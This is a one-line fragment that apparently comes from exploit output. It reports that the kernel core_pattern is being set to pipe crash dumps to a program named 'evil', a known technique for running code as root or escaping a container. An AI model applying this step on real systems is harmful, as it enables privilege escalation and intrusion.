setting /proc/sys/kernel/core_pattern "|$PWD/evil"
